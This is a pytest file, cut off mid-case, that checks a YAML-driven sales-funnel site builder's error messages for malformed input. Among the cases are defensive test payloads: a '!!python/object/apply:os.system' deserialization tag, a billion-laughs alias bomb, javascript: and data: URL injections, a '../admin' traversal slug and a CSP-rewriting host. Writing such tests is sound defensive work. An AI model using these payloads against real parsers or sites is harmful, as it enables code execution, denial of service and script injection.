"""Every bad input gives one clear line per problem, exit code 1, no traceback, nothing written.

Each case overlays files on the minimal site of ``conftest.make_site`` and lists the exact
lines ``build`` and ``check`` must print. The minimal funnel, ``funnels/tiny.yml``, is::

    1  title: Tiny funnel
    2  steps:
    3    - id: join
    4      type: optin
    5      headline: Join the list
    6      form:
    7        provider: custom
    8        action: https://mail.example/subscribe
    9    - id: thanks
   10      type: thankyou
   11      headline: Thanks for joining
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from conftest import FUNNEL_YML, SITE_YML, MakeSite, snapshot

T = "funnels/tiny.yml"

# The minimal funnel up to the end of its optin step (lines 1-8), and its thank-you step.
JOIN = """\
title: Tiny funnel
steps:
  - id: join
    type: optin
    headline: Join the list
    form:
      provider: custom
      action: https://mail.example/subscribe
"""

THANKS = """\
  - id: thanks
    type: thankyou
    headline: Thanks for joining
"""

# An offer funnel: offer (line 3), upsell (line 9, decline on 14), downsell (15), thank-you (21).
SALES = """\
title: Course
steps:
  - id: offer
    type: offer
    headline: The course
    price: {amount: 47}
    checkout: https://buy.example/course
    testimonials: [{quote: It works, name: Ann}]
  - id: coaching
    type: upsell
    headline: Add coaching
    price: {amount: 97}
    accept: {checkout: https://buy.example/coaching}
    decline: {to: DECLINE}
  - id: lite
    type: downsell
    headline: Coaching lite
    price: {amount: 37}
    accept: {checkout: https://buy.example/lite}
    decline: {to: thanks}
  - id: thanks
    type: thankyou
    headline: Thank you
"""


def sales(decline: str = "lite") -> str:
    """The offer funnel, its upsell declining to ``decline``."""
    return SALES.replace("DECLINE", decline)


def step_with(extra: str) -> str:
    """The minimal funnel with ``extra`` (indented 4) added to the optin step, from line 9."""
    return JOIN + extra + THANKS


def webinar_with(zone: str) -> str:
    return FUNNEL_YML.replace("type: optin", "type: webinar").replace(
        "    form:\n", f"    webinar: {{starts: 2030-12-10 19:00, timezone: {zone}}}\n    form:\n")


def laughs(levels: int = 9, width: int = 10) -> str:
    """A 'billion laughs' document: a few lines that name width**levels values through aliases."""
    lines = ['a0: &a0 ["lol"]']
    for i in range(1, levels + 1):
        refs = ", ".join(f"*a{i - 1}" for _ in range(width))
        lines.append(f"a{i}: &a{i} [{refs}]")
    return "\n".join(lines) + "\n"


CASES = [
    # --- YAML itself -------------------------------------------------------------------------
    pytest.param(
        {T: FUNNEL_YML.replace("    headline: Thanks for joining\n", "    headline: Thanks for joining\n"
                               "    next_steps: [Open the email, Reply to it\n")},
        [
            "funnels/tiny.yml:12: the '[' on this line is never closed: end the list with ']'",
        ],
        id="yaml-syntax-unclosed-list",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("  - id: thanks\n    type: thankyou\n    headline: Thanks for joining\n",
                               "  - {id: thanks, type: thankyou, headline: Thanks for joining\n")
            + "\n# the end\n"},
        [
            "funnels/tiny.yml:9: the '{' on this line is never closed: end the set of keys with '}'",
        ],
        id="yaml-syntax-unclosed-set-of-keys",
    ),
    pytest.param(
        {T: "title: Tiny\nsteps:\n  - id: join\n    headline: Join: the list\n"},
        [
            "funnels/tiny.yml:4: a value contains ': '; put the whole value in quotes: headline: \"Join: the list\"",
        ],
        id="yaml-syntax-colon-in-text",
    ),
    pytest.param(
        {T: 'title: "Tiny\nsteps: []\n'},
        [
            "funnels/tiny.yml:1: a quote opened on this line is never closed",
        ],
        id="yaml-syntax-unclosed-quote",
    ),
    pytest.param(
        {T: b"title: Tiny\nsteps:\n  - id: join\n\ttype: optin\n"},
        [
            "funnels/tiny.yml:4: this line is indented with a tab; indent with spaces only",
        ],
        id="tab-indentation",
    ),
    pytest.param(
        {T: "title: Tiny\nsteps:\n  - id: join\n    headline:\u00a0Join\n    type: optin\n".encode(),
         "funnels/b.yml": "title: B\nsteps:\n  - id: join\n    headline\uff1a Join\n    type: optin\n".encode(),
         "funnels/c.yml": "title: C\nsteps:\n  - id: join\n  \u3000headline: Join\n    type: optin\n".encode(),
         "funnels/d.yml": "title: D\nsteps:\n  -\u00a0id: join\n    type: optin\n".encode(),
         "funnels/e.yml": b"title: E\nsteps:\n  - id: join\n    type: optin\n    benefits:\n      -\tFast\n",
         "funnels/f.yml": "title: F\n\ufeffsteps:\n  - id: join\n    type: optin\n".encode()},
        [  # YAML names the next line and says nothing of the character
            "funnels/b.yml:4: the colon after 'headline' is a full-width '：': write headline: with a normal ':'",
            "funnels/c.yml:4: this line is indented with a full-width space (U+3000), which YAML does not read as a space: indent with normal spaces",
            "funnels/d.yml:3: the space after this line's '-' is a no-break space (U+00A0), which YAML does not read as a space: type a normal space",
            "funnels/e.yml:6: the space after this line's '-' is a tab; type a normal space",
            "funnels/f.yml:2: this line starts with an invisible byte-order mark (U+FEFF), brought along by a file pasted or joined into this one: delete the invisible character before the text",
            "funnels/tiny.yml:4: the space after 'headline:' is a no-break space (U+00A0), which YAML does not read as a space: type a normal space",
        ],
        id="spaces-and-colons-that-only-look-like-yaml",
    ),
    pytest.param(
        {T: ""},
        [
            "funnels/tiny.yml:1: expected keys such as 'title: …' and 'steps: …' at the top of the file, but it is empty",
        ],
        id="empty-file",
    ),
    pytest.param(
        {T: "# just a comment\n"},
        [
            "funnels/tiny.yml:1: expected keys such as 'title: …' and 'steps: …' at the top of the file, but it is empty",
        ],
        id="only-comments",
    ),
    pytest.param(
        {"site.yml": ""},
        [
            "site.yml:1: expected keys such as 'name: …' and 'base_url: …' at the top of the file, but it is empty",
        ],
        id="empty-site-file",
    ),
    pytest.param(
        {T: "- id: join\n  type: optin\n"},
        [
            "funnels/tiny.yml:1: expected keys such as 'title: …' and 'steps: …' at the top of the file, but it is a list",
        ],
        id="file-is-a-list",
    ),
    pytest.param(
        {T: "title: Tiny\n---\ntitle: Other\n"},
        [
            "funnels/tiny.yml:2: a second document starts here ('---'); keep one document per file",
        ],
        id="two-documents",
    ),
    pytest.param(
        {T: JOIN + "    headline: Again\n" + THANKS},
        [
            "funnels/tiny.yml:9: steps[0].headline: duplicate key 'headline' (first on line 5); keep only one",
        ],
        id="duplicate-yaml-key",
    ),
    pytest.param(
        {T: laughs()},
        [
            "funnels/tiny.yml:6: a5: aliases (*name) make this more than 200,000 values; write the values out instead",
        ],
        id="billion-laughs",
    ),
    pytest.param(
        {T: JOIN.replace("headline: Join the list", 'headline: &long "' + "A" * 1_000_000 + '"')
         + "    benefits: [" + ", ".join(["*long"] * 1000) + "]\n" + THANKS},
        [
            "funnels/tiny.yml:9: steps[0].benefits: aliases (*name) make this more than 5,000,000 characters "
            "of text; write the values out instead",
        ],
        id="one-long-text-repeated-by-aliases",
    ),
    pytest.param(  # a list as a key, its aliases ten to the sixth: refused before it is built
        {T: "title: Tiny\nsteps: []\n? [&a0 " + "y" * 1000 + ", "
            + ", ".join(f"&a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, 7)) + "]\n: 1\n"},
        [
            "funnels/tiny.yml:3: a key must be plain text",
        ],
        id="a-key-that-aliases-blow-up",
    ),
    pytest.param(
        {T: "title: Tiny\nsteps: &s [*s]\n"},
        [
            "funnels/tiny.yml:2: steps: an alias (*name) is used inside the value it refers to; write the values out instead",
        ],
        id="alias-refers-to-itself",
    ),
    pytest.param(
        {T: "title: Tiny\nsteps:\n" + "".join("  " * i + "  - \n" for i in range(100))},
        [
            "funnels/tiny.yml:67: steps: nested more than 64 levels deep",
        ],
        id="deeply-nested",
    ),
    pytest.param(
        {T: "title: Tiny\nsteps: " + "[" * 5000 + "]" * 5000 + "\n"},
        [
            "funnels/tiny.yml:2: nested more than 64 levels deep",
        ],
        id="deeply-nested-flow",
    ),
    pytest.param(
        {T: 'title: !!python/object/apply:os.system ["echo hacked"]\nsteps: []\n'},
        [
            "funnels/tiny.yml:1: title: the YAML tag '!!python/object/apply:os.system' is not allowed; remove it",
        ],
        id="python-object-tag",
    ),
    pytest.param(
        {T: "title: !!python/name:os.system\nsteps: []\n"},
        [
            "funnels/tiny.yml:1: title: the YAML tag '!!python/name:os.system' is not allowed; remove it",
        ],
        id="python-name-tag",
    ),
    pytest.param(
        {T: "base: &base {type: thankyou}\ntitle: Tiny\nsteps:\n  - <<: *base\n    id: a\n"},
        [
            "funnels/tiny.yml:4: steps[0]: merge keys ('<<') are not supported; write the keys out",
        ],
        id="merge-key",
    ),
    pytest.param(
        {T: b"title: Tiny\nsteps:\n  - id: join\n    headline: Caf\xe9\n"},
        [
            "funnels/tiny.yml:4: byte 0xe9 is not UTF-8; save the file as UTF-8 (in most editors: File > Save with Encoding > UTF-8)",
        ],
        id="not-utf8",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "brand:\n  colors:\n    primary: #1d4ed8\n"},
        [
            "site.yml:5: brand.colors.primary: YAML reads #1d4ed8 as a comment, so this is empty; put it in quotes: primary: \"#1d4ed8\"",
        ],
        id="colour-read-as-comment",
    ),
    # --- one file's shape ----------------------------------------------------------------------
    pytest.param(
        {T: "title: Tiny\nsteps: join\n"},
        [
            "funnels/tiny.yml:2: steps: expected a list (one '- item' per line), got 'join'",
        ],
        id="string-where-list-expected",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("headline: Join the list", "headline: 2026")},
        [
            "funnels/tiny.yml:5: steps[0].headline: expected text, got 2026; put it in quotes: \"2026\"",
        ],
        id="number-where-text-expected",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("headline: Join the list", "headline: yes")},
        [
            "funnels/tiny.yml:5: steps[0].headline: expected text, got yes; put it in quotes: \"yes\"",
        ],
        id="yes-where-text-expected",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("headline: Join the list", "headline: 1.50")},
        [
            "funnels/tiny.yml:5: steps[0].headline: expected text, got 1.50; put it in quotes: \"1.50\"",
        ],
        id="decimal-where-text-expected",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("headline: Join the list", "headline:")},
        [
            "funnels/tiny.yml:5: steps[0].headline: is empty: write the text after 'headline:'",
        ],
        id="empty-value-where-text-expected",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("headline: Join the list", "headlien: Join the list")},
        [
            "funnels/tiny.yml:5: steps[0].headlien: unknown key 'headlien': did you mean 'headline'?",
        ],
        id="unknown-key-did-you-mean",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "analytics: ga4\n"},
        [
            "site.yml:3: analytics: unknown key 'analytics' (allowed: name, base_url, language, theme, theme_options, brand, seo, legal, index, home, markdown, tracking, temperature, consent, hosting)",
        ],
        id="unknown-key-site-top-level",
    ),
    pytest.param(
        {T: FUNNEL_YML + "    price: {amount: 5}\n", "site.yml": SITE_YML + "favicon: assets/icon.png\n"},
        [
            "funnels/tiny.yml:12: steps[1].price: 'price' is a key of offer, upsell and downsell steps; this step is type: thankyou",
            "site.yml:3: favicon: 'favicon' goes under 'seo:' (seo: {favicon: …})",
        ],
        id="key-in-the-wrong-place",
    ),
    pytest.param(
        {T: sales().replace("    checkout: https://buy.example/course\n", "").replace("    price: {amount: 47}\n", "", 1)},
        [
            "funnels/tiny.yml:3: steps[0].checkout: missing required key 'checkout': add checkout: https://…",
            "funnels/tiny.yml:3: steps[0].price: missing required key 'price': add price: {amount: …}",
        ],
        id="missing-keys-with-what-to-write",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "thme: clean\n"},
        [
            "site.yml:3: thme: unknown key 'thme': did you mean 'theme'?",
        ],
        id="unknown-key-site-did-you-mean",
    ),
    # --- a lone value where keys belong: the keys it was meant as ---------------------------
    pytest.param(
        {T: step_with("    cta: Send me the guide\n")},
        [
            "funnels/tiny.yml:9: steps[0].cta: expected keys (key: value) here, got 'Send me the guide'; write cta: {text: Send me the guide}",
        ],
        id="lone-value-cta",
    ),
    pytest.param(
        {T: sales().replace("price: {amount: 47}", 'price: "$47"')},
        [
            "funnels/tiny.yml:6: steps[0].price: expected keys (key: value) here, got '$47'; write price: {amount: 47, currency: USD}",
        ],
        id="lone-value-price-with-its-currency",
    ),
    pytest.param(
        {T: sales().replace("price: {amount: 47}", "price: 49,99 EUR")},
        [
            "funnels/tiny.yml:6: steps[0].price: expected keys (key: value) here, got '49,99 EUR'; write price: {amount: 49.99, currency: EUR}",
        ],
        id="lone-value-price-with-a-comma",
    ),
    pytest.param(
        {T: sales().replace("testimonials: [{quote: It works, name: Ann}]", "testimonials: ['It works: really']")},
        [
            "funnels/tiny.yml:8: steps[0].testimonials[0]: expected keys (key: value) here, got 'It works: really'; write - {quote: \"It works: really\", name: …}",
        ],
        id="lone-value-list-item-quoted",
    ),
    pytest.param(
        {T: step_with("    guarantee: {text: Full refund, days: 14.5}\n")},
        [
            "funnels/tiny.yml:9: steps[0].guarantee.days: expected a whole number, got 14.5: write 14 or 15",
        ],
        id="whole-number-got-a-fraction",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "legal: {privacy: www.tiny.example/privacy}\n"},
        [
            "site.yml:3: legal.privacy: 'www.tiny.example/privacy' is not an allowed link: write 'https://www.tiny.example/privacy'",
        ],
        id="link-without-https",
    ),
    pytest.param(
        {T: sales().replace("https://buy.example/course", "buy.example/course")},
        [
            "funnels/tiny.yml:7: steps[0].checkout: 'buy.example/course' must be a full https:// URL: write 'https://buy.example/course'",
        ],
        id="checkout-without-https",
    ),
    pytest.param(
        {T: step_with("    image: {src: hero.jpg, alt: A desk}\n")},
        [
            "funnels/tiny.yml:9: steps[0].image.src: 'hero.jpg' is not an image the site can use: put the file in the site's assets folder and write 'assets/hero.jpg' or an https:// URL",
        ],
        id="image-outside-assets",
    ),
    pytest.param(
        {"site.yml": "name: Tiny Co\nbase_url: tiny.example\n"},
        [
            "site.yml:2: base_url: 'tiny.example' must be the full address of the site, e.g. https://tiny.example/",
        ],
        id="base-url-without-https",
    ),
    pytest.param(
        {"site.yml": "name: Tiny Co\nbase_url: https://tiny.example/shop/index.html\n"},
        [  # canonical links would read https://tiny.example/shop/index.html/tiny/
            "site.yml:2: base_url: 'https://tiny.example/shop/index.html' names a file, and every page's address would go on from it: write the folder the site is published in, https://tiny.example/shop/",
        ],
        id="base-url-of-a-file",
    ),
    pytest.param(
        {"site.yml": "name: Tiny Co\nbase_url: https://tiny.example//shop//\n"},
        [
            "site.yml:2: base_url: 'https://tiny.example//shop//' has '//' in its path, which every page's address would repeat: write https://tiny.example/shop/",
        ],
        id="base-url-with-doubled-slashes",
    ),
    # --- site paths that lead to no page ------------------------------------------------------
    pytest.param(
        {T: step_with("    links: [{text: Read more, to: /tiny/thank/}]\n")},
        [
            "funnels/tiny.yml:9: steps[0].links[0].to: link '/tiny/thank/' leads to no page of this site: did you mean '/tiny/thanks/'?",
        ],
        id="site-path-with-a-slip",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "legal: {privacy: /privacy/}\n"},
        [
            "site.yml:3: legal.privacy: link '/privacy/' leads to no page of this site: link to one of its pages (e.g. /tiny/) or write the full https:// address of a page elsewhere",
        ],
        id="privacy-page-that-is-not-built",
    ),
    pytest.param(
        {T: step_with("    body: |\n      Read this first.\n\n      Then [register](/webinar/register/).\n")},
        [
            "funnels/tiny.yml:9: steps[0].body: link '/webinar/register/' leads to no page of this site: link to one of its pages (e.g. /tiny/) or write the full https:// address of a page elsewhere",
        ],
        id="markdown-link-to-no-page",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("    headline: Join the list\n", "    headline: Join the list\n    body_file: content/story.md\n"),
         "content/story.md": "\n  \n"},
        [
            "funnels/tiny.yml:6: steps[0].body_file: 'content/story.md' is empty, so the page shows no body: write it, or remove body_file (--strict)",
        ],
        ("--strict",),
        id="empty-body-file",
    ),
    pytest.param(
        {T: step_with("    guarantee: {text: Full refund, days: 99999999}\n")},
        [
            "funnels/tiny.yml:9: steps[0].guarantee.days: 99999999 is too large: write 3650 or less",
        ],
        id="guarantee-longer-than-ten-years",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("headline: Join the list", 'headline: "Join the list\\x07"')},
        [
            "funnels/tiny.yml:5: steps[0].headline: the escape for '\\x07' in these quotes is an invisible control character, which no page can show; remove it",
        ],
        id="yaml-escaped-control-character",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "brand: {colors: {primary: 123456, accent: f59e0b}}\n"},
        [
            "site.yml:3: brand.colors.accent: 'f59e0b' is not a colour: write a '#' before it, in quotes: \"#f59e0b\"",
            "site.yml:3: brand.colors.primary: expected a colour, got 123456: write a '#' before it, in quotes: \"#123456\"",
        ],
        id="colour-without-its-hash",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "tracking:\n  ga4: {measurement_id: g-abc123}\n"
                                "  plausible: {domain: 'https://Tiny.example/'}\n"},
        [
            "site.yml:4: tracking.ga4.measurement_id: 'g-abc123' is not in the expected form: 'G-' then 4 to 16 capital letters and digits, e.g. G-ABC123XYZ; write 'G-ABC123'",
            "site.yml:5: tracking.plausible.domain: 'https://Tiny.example/' is not in the expected form: a lowercase domain, e.g. example.com; write 'tiny.example'",
        ],
        id="ids-and-domains-in-another-form",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "legal: {privacy: hello@tiny.example, terms: assets/terms.pdf}\n"},
        [
            "site.yml:3: legal.privacy: 'hello@tiny.example' is not an allowed link: write 'mailto:hello@tiny.example'",
            "site.yml:3: legal.terms: 'assets/terms.pdf' is not an allowed link: write '/assets/terms.pdf'",
        ],
        id="links-meant-otherwise",
    ),
    pytest.param(
        {T: step_with("    body: See [our site](www.tiny.example).\n")},
        [
            "funnels/tiny.yml:9: steps[0].body: link 'www.tiny.example' in the Markdown cannot work: write 'https://www.tiny.example'",
        ],
        id="markdown-link-without-https",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "language: English\n"},
        [
            "site.yml:3: language: 'English' is not a language code: write en",
        ],
        id="language-by-its-name",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "language: eng-GB\n"},
        [
            "site.yml:3: language: 'eng-GB' is not a language code: write en-GB",
        ],
        id="language-in-three-letters",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "language: en/us\n"},
        [
            "site.yml:3: language: 'en/us' is not a language code: write a language code, e.g. en, de or pt-BR",
        ],
        id="language-not-a-code",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "language: jp\n"},
        [
            "site.yml:3: language: 'jp' is not a language code: write ja",
        ],
        id="language-written-as-its-country",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "language: zz\n"},
        [
            "site.yml:3: language: 'zz' is not a language code: write a language code, e.g. en, de or pt-BR",
        ],
        id="language-no-one-speaks",
    ),
    pytest.param(
        {"site.yml": "base_url: https://tiny.example/\n"},
        [
            "site.yml:1: name: missing required key 'name': add name: …",
        ],
        id="missing-site-name",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("    headline: Join the list\n", "")},
        [
            "funnels/tiny.yml:3: steps[0].headline: missing required key 'headline': add headline: …",
        ],
        id="missing-headline",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("    type: optin\n", "")},
        [
            "funnels/tiny.yml:3: steps[0].type: missing key 'type': write one of bridge, optin, webinar, offer, upsell, downsell or thankyou",
        ],
        id="missing-step-type",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("type: optin", "type: optn")},
        [
            "funnels/tiny.yml:4: steps[0].type: unknown step type 'optn': did you mean 'optin'? Or write one of bridge, optin, webinar, offer, upsell, downsell or thankyou",
        ],
        id="unknown-step-type",
    ),
    pytest.param(
        {T: "title: Tiny\nsteps: []\n"},
        [
            "funnels/tiny.yml:2: steps: must not be empty",
        ],
        id="no-steps",
    ),
    pytest.param(
        {T: "title: x\n steps: []\n"},
        [
            "funnels/tiny.yml:2: this line is indented differently from the lines above; line it up",
        ],
        id="bad-indentation",
    ),
    pytest.param(
        {T: "title: @home\nsteps: []\n"},
        [
            "funnels/tiny.yml:1: text cannot start with '@' unless it is in quotes (YAML reads it as a reserved character): write title: \"@home\"",
        ],
        id="value-starts-with-at-sign",
    ),
    pytest.param(
        {T: "title: *name\nsteps: []\n"},
        [
            "funnels/tiny.yml:1: an alias (*name) here has no anchor (&name) above it; write the value out",
        ],
        id="alias-without-anchor",
    ),
    # --- values --------------------------------------------------------------------------------
    pytest.param(
        {T: step_with("    links:\n      - {text: Click, to: javascript:alert(1)}\n")},
        [
            "funnels/tiny.yml:10: steps[0].links[0].to: 'javascript:alert(1)' is not an allowed link: write an https://, http://, mailto: or tel: URL, or a site path starting with /",
        ],
        id="javascript-url",
    ),
    pytest.param(
        {T: step_with("    links:\n      - {text: Click, to: JaVaScRiPt:alert(1)}\n")},
        [
            "funnels/tiny.yml:10: steps[0].links[0].to: 'JaVaScRiPt:alert(1)' is not an allowed link: write an https://, http://, mailto: or tel: URL, or a site path starting with /",
        ],
        id="javascript-url-mixed-case",
    ),
    pytest.param(
        {T: step_with('    links:\n      - {text: Click, to: "java\\tscript:alert(1)"}\n')},
        [
            "funnels/tiny.yml:10: steps[0].links[0].to: 'java\\tscript:alert(1)' contains spaces or invisible characters; remove them",
        ],
        id="javascript-url-with-tab",
    ),
    pytest.param(
        {T: step_with('    links:\n      - {text: Info, to: "https://example.com/in\\u00adfo\\u00a0"}\n')},
        [
            "funnels/tiny.yml:10: steps[0].links[0].to: 'https://example.com/in\\xadfo\\xa0' contains spaces or invisible characters; remove them",
        ],
        id="url-with-a-soft-hyphen-and-a-no-break-space-pasted-from-word",
    ),
    pytest.param(
        {T: step_with("    links:\n      - {text: Click, to: 'data:text/html,<b>hi</b>'}\n")},
        [
            "funnels/tiny.yml:10: steps[0].links[0].to: 'data:text/html,<b>hi</b>' is not an allowed link: write an https://, http://, mailto: or tel: URL, or a site path starting with /",
        ],
        id="data-url-link",
    ),
    pytest.param(
        {T: step_with("    image: {src: 'data:image/png;base64,iVBORw0KGgo=', alt: Logo}\n")},
        [
            "funnels/tiny.yml:9: steps[0].image.src: 'data:image/png;base64,iVBORw0KGgo=' is not an image the site can use: write a file in the assets folder (e.g. assets/photo.jpg) or an https:// URL",
        ],
        id="data-url-image",
    ),
    pytest.param(
        {T: step_with("    image: {src: 'https://cdn.example;sandbox;form-action/a.png', alt: A}\n")},
        [
            "funnels/tiny.yml:9: steps[0].image.src: 'https://cdn.example;sandbox;form-action/a.png' has no valid domain name after '//': use letters, digits, '-' and '.', e.g. https://cdn.example.com/photo.jpg",
        ],
        id="image-host-that-would-rewrite-the-content-security-policy",
    ),
    pytest.param(
        {T: step_with("    links:\n      - {text: Any, to: 'https://*/x'}\n      - {text: Port, to: 'https://a.example:99999/'}\n"
                      "      - {text: User, to: 'https://me@a.example/'}\n")},
        [
            "funnels/tiny.yml:10: steps[0].links[0].to: 'https://*/x' has no valid domain name after '//': use letters, digits, '-' and '.', e.g. https://cdn.example.com/photo.jpg",
            "funnels/tiny.yml:11: steps[0].links[1].to: 'https://a.example:99999/' has a port that is not a number from 1 to 65535",
            "funnels/tiny.yml:12: steps[0].links[2].to: 'https://me@a.example/' has a user name or password in it (before '@'); remove it",
        ],
        id="link-hosts-ports-and-user-names",
    ),
    pytest.param(
        {T: step_with("    body: '![A](https://cdn.example;sandbox/a.png)'\n")},
        [
            "funnels/tiny.yml:9: steps[0].body: image 'https://cdn.example;sandbox/a.png' has no valid domain name after '//': use letters, digits, '-' and '.', e.g. https://cdn.example.com/photo.jpg",
        ],
        id="markdown-image-host",
    ),
    pytest.param(
        {T: step_with("    video: {url: 'https://www.youtube.com/playlist?list=PLx0sYbCqOb8TBPRdmBHs5Iftvv9TPboYG'}\n"),
         "funnels/b.yml": step_with("    video: {url: 'https://www.youtube.com/@ledgerlab'}\n"),
         "funnels/c.yml": step_with("    video: {url: 'https://vimeo.com/showcase/9876543'}\n")},
        [
            "funnels/b.yml:9: steps[0].video.url: 'https://www.youtube.com/@ledgerlab' is a YouTube channel, not one video: open the video and copy its address from the browser, e.g. https://www.youtube.com/watch?v=…",
            "funnels/c.yml:9: steps[0].video.url: 'https://vimeo.com/showcase/9876543' is a Vimeo showcase, not one video: open the video and copy its address from the browser, e.g. https://vimeo.com/76979871",
            "funnels/tiny.yml:9: steps[0].video.url: 'https://www.youtube.com/playlist?list=PLx0sYbCqOb8TBPRdmB...' is a YouTube playlist, not one video: open the video and copy its address from the browser, e.g. https://www.youtube.com/watch?v=…",
        ],
        id="video-address-of-a-playlist-or-channel",
    ),
    pytest.param(
        {T: sales().replace("https://buy.example/course", "http://buy.example/course")},
        [
            "funnels/tiny.yml:7: steps[0].checkout: 'http://buy.example/course' is not secure: write 'https://buy.example/course' instead",
        ],
        id="http-checkout",
    ),
    pytest.param(
        {T: step_with("    slug: ../admin\n")},
        [
            "funnels/tiny.yml:9: steps[0].slug: '../admin' is not a valid slug: use lowercase letters, digits and single '-', e.g. 'admin'",
        ],
        id="slug-with-dot-dot",
    ),
    pytest.param(
        {T: step_with("    slug: Join-Now\n")},
        [
            "funnels/tiny.yml:9: steps[0].slug: 'Join-Now' is not a valid slug: use lowercase letters, digits and single '-', e.g. 'join-now'",
        ],
        id="slug-uppercase",
    ),
    pytest.param(
        {T: step_with("    slug: " + "join-" * 13 + "now\n")},
        [
            "funnels/tiny.yml:9: steps[0].slug: 'join-join-join-join-join-join-join-join-join-join-join-jo...' is not a valid slug: it is longer than 64 characters, e.g. 'join-join-join-join-join-join-join-join-join-join-join-join-join'",
        ],
        id="slug-too-long",
    ),
    pytest.param(
        {"funnels/" + "a" * 70 + ".yml": FUNNEL_YML, T: None},
        [
            "funnels/" + "a" * 70 + ".yml:1: file name '" + "a" * 70 + "' is not a valid URL (longer than 64 characters): rename the file to " + "a" * 64 + ".yml, or add slug: " + "a" * 64 + " to it",
        ],
        id="file-name-too-long-for-a-slug",
    ),
    pytest.param(
        {T: step_with("    slug: join/now\n")},
        [
            "funnels/tiny.yml:9: steps[0].slug: 'join/now' is not a valid slug: use lowercase letters, digits and single '-', e.g. 'join-now'",
        ],
        id="slug-with-slash",
    ),
    pytest.param(
        {T: step_with("    slug: jetzt–an\u00admelden\n")},
        [  # Word's en dash separates words, its soft hyphen (shown escaped) is nothing
            "funnels/tiny.yml:9: steps[0].slug: 'jetzt–an\\xadmelden' is not a valid slug: use lowercase letters, digits and single '-', e.g. 'jetzt-anmelden'",
        ],
        id="slug-pasted-from-word",
    ),
    pytest.param(
        {T: None, "funnels/My Funnel.yml": FUNNEL_YML},
        [
            "funnels/My Funnel.yml:1: file name 'My Funnel' is not a valid URL: rename the file to my-funnel.yml, or add slug: my-funnel to it",
        ],
        id="funnel-file-name-not-a-slug",
    ),
    pytest.param(
        {T: None, "funnels/Güide.yml": FUNNEL_YML},
        [
            "funnels/Güide.yml:1: file name 'Güide' is not a valid URL: rename the file to guide.yml, or add slug: guide to it",
        ],
        id="accented-file-name-suggests-the-plain-letters",
    ),
    pytest.param(
        {"funnels/Straße.yml": FUNNEL_YML, "funnels/セミナー.yml": FUNNEL_YML},
        [
            "funnels/Straße.yml:1: file name 'Straße' is not a valid URL: rename the file to strasse.yml, or add slug: strasse to it",
            "funnels/セミナー.yml:1: file name 'セミナー' is not a valid URL: add a slug: of lowercase Latin letters, digits and '-' to it, the words its URLs show (e.g. slug: webinar), or rename the file so",
        ],
        id="file-names-in-other-letters",
    ),
    pytest.param(
        {T: "slug: assets\n" + FUNNEL_YML},
        [
            "funnels/tiny.yml:1: slug: 'assets' is reserved for the site's files; choose another slug",
        ],
        id="reserved-funnel-slug",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "brand:\n  colors:\n    primary: '#12'\n"},
        [
            "site.yml:5: brand.colors.primary: '#12' is not a colour: write a hex colour in quotes, e.g. \"#1f6feb\"",
        ],
        id="bad-colour",
    ),
    pytest.param(
        {T: sales().replace("price: {amount: 47}", "price: {amount: 47, currency: XYZ}")
            .replace("price: {amount: 97}", "price: {amount: 97, currency: $}")
            .replace("price: {amount: 37}", "price: {amount: 37, currency: euro}"),
         "funnels/b.yml": sales().replace("price: {amount: 47}", "price: {amount: 47, currency: UDS}"),
         "funnels/chf.yml": sales().replace("price: {amount: 47}", "price: {amount: 47, currency: SFr.}")
            .replace("price: {amount: 97}", "price: {amount: 97, currency: kr}")},
        [
            "funnels/b.yml:6: steps[0].price.currency: 'UDS' is not a currency code: did you mean 'USD'? Or write the three letters of ISO 4217, such as USD, EUR or GBP",
            "funnels/chf.yml:6: steps[0].price.currency: 'SFr.' is not a currency code: write 'CHF'",
            "funnels/chf.yml:12: steps[1].price.currency: 'kr' is not a currency code: write SEK (Sweden), NOK (Norway), DKK (Denmark) or ISK (Iceland)",
            "funnels/tiny.yml:6: steps[0].price.currency: 'XYZ' is not a currency code: write the three letters of ISO 4217, such as USD, EUR or GBP",
            "funnels/tiny.yml:12: steps[1].price.currency: '$' is not a currency code: write 'USD'",
            "funnels/tiny.yml:18: steps[2].price.currency: 'euro' is not a currency code: write 'EUR'",
        ],
        id="currency-that-is-no-iso-code",
    ),
    pytest.param(
        {T: sales().replace("price: {amount: 47}", "price: {amount: 47, currency: NIS}")
            .replace("price: {amount: 97}", "price: {amount: 97, currency: 円}")
            .replace("price: {amount: 37}", "price: {amount: 37, currency: riyal}")},
        [
            "funnels/tiny.yml:6: steps[0].price.currency: 'NIS' is not a currency code: write 'ILS'",
            "funnels/tiny.yml:12: steps[1].price.currency: '円' is not a currency code: write 'JPY'",
            "funnels/tiny.yml:18: steps[2].price.currency: 'riyal' is not a currency code: write 'SAR'",
        ],
        id="currency-as-written-where-it-is-spent",
    ),
    pytest.param(
        {T: sales().replace("    price: {amount: 47}\n", "    price:\n      amount: 19,99\n      compare_at: $49\n")
            .replace("price: {amount: 97}", "price: {amount: 49 USD, plans: [{amount: €19, count: 3, label: '',"
                     " checkout: 'https://buy.example/plan'}]}")
            .replace("price: {amount: 37}", "price: {amount: '1.299,00'}")},
        [
